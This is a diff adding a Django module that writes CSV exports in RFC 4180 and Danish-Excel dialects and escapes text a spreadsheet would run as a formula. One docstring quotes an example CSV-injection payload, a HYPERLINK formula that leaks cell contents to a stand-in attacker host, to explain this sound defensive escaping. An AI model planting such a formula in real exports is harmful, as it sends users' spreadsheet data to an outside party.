@@ -1,0 +1,128 @@
+"""Every CSV file the site serves, in one of two dialects, written by one writer.
+
+``rfc4180`` (the default) is for programs: RFC 4180 with CRLF, UTF-8 without a BOM, `,` between fields, `.` in
+numbers and ASCII column names that do not change with the reader's language. ``excel-da`` is for a Danish
+spreadsheet opened with a double click: `;` between fields, `,` in numbers, a UTF-8 BOM (without it Excel reads
+"Vækstplan" as "VÃ¦kstplan") and the column headings the reader sees on the page.
+"""
+
+import csv
+import functools
+import re
+from collections.abc import Iterable, Iterator
+from dataclasses import dataclass
+from decimal import Decimal
+
+from django.http import HttpResponse, StreamingHttpResponse
+from django.utils.encoding import force_str
+from django.utils.translation import gettext as _
+
+BOM = "\ufeff"
+CONTENT_TYPE = "text/csv; charset=utf-8"
+
+
+@dataclass(frozen=True)
+class Dialect:
+    name: str
+    delimiter: str
+    decimal_point: str
+    bom: bool
+    # Headings for people (the page's, translated) rather than the stable ASCII names programs key on.
+    readers_headings: bool
+
+
+RFC4180 = Dialect("rfc4180", ",", ".", bom=False, readers_headings=False)
+EXCEL_DA = Dialect("excel-da", ";", ",", bom=True, readers_headings=True)
+DIALECTS = {dialect.name: dialect for dialect in (RFC4180, EXCEL_DA)}
+PARAMETER = "dialect"
+
+
+class UnknownDialect(ValueError):
+    pass
+
+
+def dialect_of(query) -> Dialect:
+    """The dialect a request's ``?dialect=`` names, RFC 4180 when it names none; UnknownDialect with a message for
+    the reader otherwise."""
+    names = query.getlist(PARAMETER)
+    if not names:
+        return RFC4180
+    if len(names) == 1 and names[0] in DIALECTS:
+        return DIALECTS[names[0]]
+    raise UnknownDialect(
+        _("CSV comes in the dialects %(dialects)s; leave out ?dialect= for the first.")
+        % {"dialects": ", ".join(DIALECTS)}
+    )
+
+
+# A value the tables print as a number (an amount, "-0,3 %"): a spreadsheet reads it as one, never as a formula.
+NUMBER = re.compile(r"^[-+]?\d[\d.,\s]*%?$")
+
+
+@functools.cache
+def _cell_start() -> re.Pattern:
+    """Where a spreadsheet may start a cell in a text: at its start, and after a semicolon or a line break, where
+    Danish Excel (which splits rows at semicolons) may start one whatever the quoting."""
+    from budgets.workbooks import FORMULA_TRIGGERS  # the workbooks import the exports, which write with this module
+
+    return re.compile("(^|[;\r\n])(?=[" + re.escape("".join(FORMULA_TRIGGERS)) + "])")
+
+
+def spreadsheet_text(value) -> str:
+    """A value for a CSV file that people open in a spreadsheet. Text that Excel would run as a formula (a title
+    such as '=HYPERLINK("http://evil.example/?leak="&A1)') gets an apostrophe in front, as the workbooks' text
+    does, at its start and wherever a cell could start inside it. Numbers, negative ones included, stay as they
+    are."""
+    text = "" if value is None else force_str(value)
+    if NUMBER.match(text):
+        return text
+    return _cell_start().sub(r"\1'", text)
+
+
+class _Echo:
+    """A file for csv.writer that hands each line back instead of storing it."""
+
+    def write(self, line: str) -> str:
+        return line
+
+
+class CsvWriter:
+    """Rows to lines of text in a dialect. Numbers (int, Decimal) are written alike in every row, in the dialect's
+    notation and without grouping, so a column holds one number format; None is an empty field; text is as given,
+    or through ``text`` (the page downloads escape what a spreadsheet would run as a formula)."""
+
+    def __init__(self, dialect: Dialect, quote_all: bool = False, text=str):
+        self.dialect = dialect
+        self.text = text
+        self._writer = csv.writer(
+            _Echo(),
+            delimiter=dialect.delimiter,
+            lineterminator="\r\n",
+            quoting=csv.QUOTE_ALL if quote_all else csv.QUOTE_MINIMAL,
+        )
+
+    def field(self, value) -> str:
+        if value is None:
+            return ""
+        if isinstance(value, bool):
+            return "true" if value else "false"
+        if isinstance(value, int):
+            return str(value)
+        if isinstance(value, Decimal):
+            return format(value, "f").replace(".", self.dialect.decimal_point)
+        return self.text(value)
+
+    def lines(self, header: list[str], rows: Iterable[Iterable]) -> Iterator[str]:
+        yield (BOM if self.dialect.bom else "") + self._writer.writerow([self.text(name) for name in header])
+        for row in rows:
+            yield self._writer.writerow([self.field(value) for value in row])
+
+
+def csv_response(lines: Iterable[str], filename: str, disposition: str = "attachment", streaming: bool = False):
+    """The lines as a download; ``streaming`` for files too large to hold whole."""
+    if streaming:
+        response = StreamingHttpResponse(lines, content_type=CONTENT_TYPE)
+    else:
+        response = HttpResponse("".join(lines), content_type=CONTENT_TYPE)
+    response["Content-Disposition"] = f'{disposition}; filename="{filename}.csv"'
+    return response
